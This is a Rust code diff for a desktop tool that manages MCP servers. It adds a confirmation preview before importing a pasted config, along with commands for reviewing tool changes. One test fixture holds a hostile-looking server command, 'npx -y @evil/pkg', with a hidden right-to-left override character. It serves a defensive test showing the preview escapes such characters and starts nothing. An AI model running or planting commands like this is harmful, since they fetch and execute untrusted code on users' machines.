@@ -35,15 +35,55 @@ pub fn save(engine: &Engine, name: &str, config: ServerConfig) -> CommandResult<
     Ok(engine.add_server(name.trim(), config)?)
 }
 
-/// Reads a pasted Claude Desktop config (the whole file or its `mcpServers` object) and adds
-/// every server it can; the others are reported with why.
-pub fn import(engine: &Engine, text: &str) -> CommandResult<ImportReport> {
+/// One server an import would add, as the person confirms it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
+pub struct ImportCandidate {
+    pub name: String,
+    /// What it runs or reaches (see `ServerConfig::describe`), hidden characters escaped.
+    pub runs: String,
+}
+
+/// What an import would do, shown before anything starts.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
+pub struct ImportPreview {
+    pub servers: Vec<ImportCandidate>,
+    pub refused: Vec<RefusedServer>,
+}
+
+fn parse_import(text: &str) -> CommandResult<Vec<airlock_core::server::ParsedServer>> {
     let config: serde_json::Value =
         serde_json::from_str(text).map_err(|e| invalid(format!("not valid JSON: {e}")))?;
     let parsed = parse_mcp_servers_each(&config).map_err(invalid)?;
     if parsed.is_empty() {
         return Err(invalid("the config has no servers".into()));
     }
+    Ok(parsed)
+}
+
+/// What [`import`] would add, and what it would refuse: an import starts every server it adds
+/// (an `npx -y …` downloads and runs code), so the person sees this first and confirms.
+pub fn preview_import(text: &str) -> CommandResult<ImportPreview> {
+    let mut preview = ImportPreview {
+        servers: Vec::new(),
+        refused: Vec::new(),
+    };
+    for (name, parsed) in parse_import(text)? {
+        match parsed.and_then(|config| config.validate().map(|()| config)) {
+            Ok(config) => preview.servers.push(ImportCandidate {
+                runs: config.describe(),
+                name,
+            }),
+            Err(reason) => preview.refused.push(RefusedServer { name, reason }),
+        }
+    }
+    Ok(preview)
+}
+
+/// Adds every server of a pasted Claude Desktop config (the whole file or its `mcpServers`
+/// object) that it can, after the person confirmed [`preview_import`]; the others are reported
+/// with why.
+pub fn import(engine: &Engine, text: &str) -> CommandResult<ImportReport> {
+    let parsed = parse_import(text)?;
     let mut report = ImportReport {
         added: Vec::new(),
         refused: Vec::new(),
@@ -126,6 +166,29 @@ pub async fn remove_server(shell: State<'_, Shell>, name: String) -> CommandResu
 #[tauri::command]
 pub async fn import_servers(shell: State<'_, Shell>, text: String) -> CommandResult<ImportReport> {
     import(&shell.engine, &text)
+}
+
+#[tauri::command]
+pub async fn preview_import_servers(text: String) -> CommandResult<ImportPreview> {
+    preview_import(&text)
+}
+
+/// What changed in a server's tools since the person last reviewed them.
+#[tauri::command]
+pub async fn server_changes(
+    shell: State<'_, Shell>,
+    name: String,
+) -> CommandResult<Vec<airlock_engine::ToolChange>> {
+    Ok(shell.engine.server_changes(&name)?)
+}
+
+/// The person reviewed those changes and accepts them: suspended grants apply again.
+#[tauri::command]
+pub async fn accept_server_changes(
+    shell: State<'_, Shell>,
+    name: String,
+) -> CommandResult<Vec<airlock_engine::ToolChange>> {
+    Ok(shell.engine.accept_server_changes(&name)?)
 }
 
 #[tauri::command]
@@ -289,6 +352,48 @@ mod tests {
             "added, then starting and failed: {announced} announcements"
         );
         mcp.stop_all();
+    }
+
+    /// Security finding: an import started every imported command at once (`npx -y …`
+    /// downloads and runs code). The preview adds and starts nothing and shows what would run.
+    #[test]
+    fn an_import_preview_shows_what_would_run_and_adds_nothing() {
+        let data = tempfile::tempdir().unwrap();
+        let engine = engine(data.path());
+        let text = r#"{"mcpServers": {
+            "files": {"command": "npx", "args": ["-y", "@evil/pkg\u202e"], "env": {"TOKEN": "secret"}},
+            "remote": {"url": "https://example.com/mcp", "headers": {"Authorization": "Bearer x"}},
+            "bad": {"url": "ftp://example.com"}
+        }}"#;
+        let preview = preview_import(text).unwrap();
+        let runs: Vec<(&str, &str)> = preview
+            .servers
+            .iter()
+            .map(|s| (s.name.as_str(), s.runs.as_str()))
+            .collect();
+        assert_eq!(
+            runs,
+            [
+                ("files", "npx -y @evil/pkg\\u{202E}  [env: TOKEN]"),
+                (
+                    "remote",
+                    "https://example.com/mcp  [headers: Authorization]"
+                ),
+            ]
+        );
+        assert_eq!(preview.refused.len(), 1);
+        assert!(
+            !runs
+                .iter()
+                .any(|(_, r)| r.contains("secret") || r.contains("Bearer"))
+        );
+        let names: Vec<String> = engine
+            .servers()
+            .unwrap()
+            .into_iter()
+            .map(|s| s.name)
+            .collect();
+        assert!(!names.contains(&"files".to_string()), "{names:?}");
     }
 
     #[test]
